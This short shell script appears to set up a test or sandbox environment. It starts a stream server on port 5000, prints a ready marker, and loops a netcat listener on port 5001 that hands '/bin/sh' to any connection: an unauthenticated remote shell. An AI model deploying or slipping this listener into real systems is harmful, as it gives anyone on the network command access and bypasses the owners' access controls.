#!/bin/sh
# In the domain: see net-load. Port 5001 takes a command line.
stream serve 5000 &
echo "@ready"
while :; do nc -l -p 5001 -e /bin/sh; done
